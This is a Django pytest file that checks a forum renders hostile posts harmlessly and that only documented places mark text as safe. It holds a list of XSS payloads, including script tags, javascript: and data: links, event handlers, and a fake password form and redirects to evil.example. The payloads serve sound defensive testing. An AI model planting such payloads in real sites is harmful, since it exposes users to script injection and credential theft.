"""Hostile posts render harmless, and no template marks text safe except the known sanitised places."""

import re
from html.parser import HTMLParser

import pytest
from django.conf import settings

from forums import services
from forums.models import Post

from .conftest import login

HOSTILE = [
    "<script>alert('xss')</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "[click me](javascript:alert(1))",
    "[click me](JaVaScRiPt:alert(1))",
    "[click](  javascript:alert(1)  )",
    '<a href="javascript:alert(1)">raw link</a>',
    "[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![pic](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![pic](javascript:alert(1))",
    "<img src=x onerror=alert(1)>",
    '<p onclick="alert(1)">click</p>',
    "<div onmouseover=alert(1)>hover",
    "<b>unclosed <i>tags <a href='//evil.example'",
    "<svg onload=alert(1)><circle r=10 /></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<iframe src="https://evil.example"></iframe>',
    "<style>body { display: none }</style>",
    "<div>\n\n**raw html block**\n\n</div>",
    "<details open ontoggle=alert(1)>",
    '[x](https://example.org "title" onmouseover=alert(1))',
    '<a href="https://example.org" style="position:fixed;top:0">overlay</a>',
    "`<script>in code</script>`",
    "```\n<script>in a fence</script>\n```",
    "<!-- comment --><form action=//evil.example><input name=password></form>",
    "[link](vbscript:msgbox(1))",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    '<object data="evil.swf"></object><embed src="evil.swf">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
]

# Tags the topic page itself is made of; anything else in the page came from a post.
PAGE_TAGS = {
    "html",
    "head",
    "meta",
    "title",
    "link",
    "body",
    "a",
    "header",
    "nav",
    "input",
    "label",
    "ul",
    "ol",
    "li",
    "details",
    "summary",
    "span",
    "form",
    "button",
    "main",
    "h1",
    "h2",
    "p",
    "div",
    "article",
    "time",
    "footer",
    "section",
    "textarea",
    "script",
    "br",
    "select",  # the footer's language switcher
    "option",
}
POST_TAGS = {
    "p",
    "br",
    "hr",
    "em",
    "strong",
    "code",
    "pre",
    "blockquote",
    "ul",
    "ol",
    "li",
    "a",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "del",
}
SAFE_URL = re.compile(r"^(https?://|mailto:|/|\?|#)", re.IGNORECASE)


class TagCollector(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def _tags(html: str):
    collector = TagCollector()
    collector.feed(html)
    collector.close()
    return collector.tags


def assert_no_active_content(tags, allowed_tags):
    for tag, attrs in tags:
        assert tag in allowed_tags, f"unexpected <{tag}>"
        for name, value in attrs.items():
            assert not name.startswith("on"), f"event handler {name} on <{tag}>"
            assert name != "style", f"inline style on <{tag}>"
            if name in ("href", "src", "action", "formaction", "data"):
                assert value is None or SAFE_URL.match(value.strip()), f"{name}={value!r} on <{tag}>"
        if tag == "script" and attrs.get("src", "").startswith("/jsi18n/"):
            continue  # the site's own catalogue of the page's language
        if tag == "script":  # only the site's own module and the JSON data island of quotes
            assert attrs.get("type") in ("module", "application/json"), attrs
            assert attrs.get("type") == "application/json" or attrs["src"].startswith(settings.STATIC_URL)
        if tag == "meta":
            assert "http-equiv" not in attrs


@pytest.mark.django_db
@pytest.mark.parametrize("hostile", HOSTILE)
def test_hostile_posts_render_harmless_on_the_topic_page(client, alice, bob, general, hostile):
    topic = services.topic_create(
        limited=False, forum_id=general.pk, user=alice, title=hostile[:150], body=f"before\n\n{hostile}"
    )
    services.post_create(limited=False, topic_id=topic.pk, user=alice, body=f"nonce-42\n\n{hostile}")
    login(client, bob)  # a reader who can quote: the quote data island is on the page too
    page = client.get(topic.get_absolute_url()).content.decode()
    assert "nonce-42" in page
    assert_no_active_content(_tags(page), PAGE_TAGS | POST_TAGS)
    # what the page shows is the stored rendering, made of the allowlisted tags only
    for post in Post.objects.filter(topic=topic):
        assert_no_active_content(_tags(post.body_html), POST_TAGS)
        assert post.body_html in page


# --- |safe and mark_safe ------------------------------------------------------------------

# Each use, by file, with why it is safe.
KNOWN_SAFE = {
    # the post's stored rendering: portal.markdown.render_markdown (raw HTML off, nh3 allowlist)
    "forums/templates/forums/_post_body.html": ["post.body_html|safe"],
    # the site's own rules pages rendered by the same sanitiser (games.rules.rules_html)
    "games/templates/games/game_detail.html": ["rules|safe"],
    "games/templates/games/game_rules.html": ["rules|safe"],
    # cached page fragments: the output of the site's own templates (autoescaped when they
    # were rendered), put back together with the per-viewer parts of the same templates
    "portal/page_cache.py": ["mark_safe", "mark_safe"],
}
SKIP_DIRS = {".venv", "node_modules", "staticfiles", ".git", "test-artifacts", "__pycache__"}
TEMPLATE_MARKERS = re.compile(r"[\w.]+\s*\|\s*safe(?:seq)?\b|\{%\s*autoescape\s+off")
PYTHON_MARKERS = re.compile(r"\bmark_safe\b|\bSafeString\b|\bSafeText\b")


def _project_files(suffixes):
    for path in sorted(settings.BASE_DIR.rglob("*")):
        rel = path.relative_to(settings.BASE_DIR)
        if path.suffix in suffixes and path.is_file() and not SKIP_DIRS & set(rel.parts) and rel.parts[0] != "tests":
            yield rel.as_posix(), path.read_text(encoding="utf-8", errors="replace")


def test_only_the_known_sanitised_places_mark_text_safe():
    found = {}
    for rel, text in _project_files({".html", ".txt", ".xml"}):
        for match in TEMPLATE_MARKERS.finditer(text):
            found.setdefault(rel, []).append(re.sub(r"\s+", "", match.group(0)))
    for rel, text in _project_files({".py"}):
        for match in PYTHON_MARKERS.finditer(text):
            found.setdefault(rel, []).append(match.group(0))
    assert found == KNOWN_SAFE, "a new |safe or mark_safe: sanitise the text, then add it here with the reason"
